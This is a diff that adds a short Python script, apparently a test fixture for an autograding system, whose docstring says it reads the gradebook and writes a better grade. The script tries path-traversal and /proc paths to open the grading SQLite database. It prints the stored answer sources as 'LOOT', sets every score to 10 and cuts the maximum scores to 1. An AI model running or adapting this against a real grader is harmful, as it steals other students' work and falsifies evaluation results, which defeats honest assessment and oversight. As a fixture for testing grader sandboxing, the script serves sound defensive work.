@@ -1,0 +1,21 @@
+"""Reads the gradebook for tests, and writes a better grade into it.
+
+earns: 0
+"""
+
+# %%
+import sqlite3
+
+for path in (
+    "@COURSE@/g.db",
+    "../../../g.db",
+    "/proc/1/root@COURSE@/g.db",
+    "/proc/self/cwd/../../../g.db",
+):
+    try:
+        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as database:
+            print("LOOT", database.execute("select source from source_cell").fetchall())
+            database.execute("update grade set auto_score = 10, manual_score = 10")
+            database.execute("update grade_cells set max_score = 1")
+    except sqlite3.Error as error:
+        print(error)
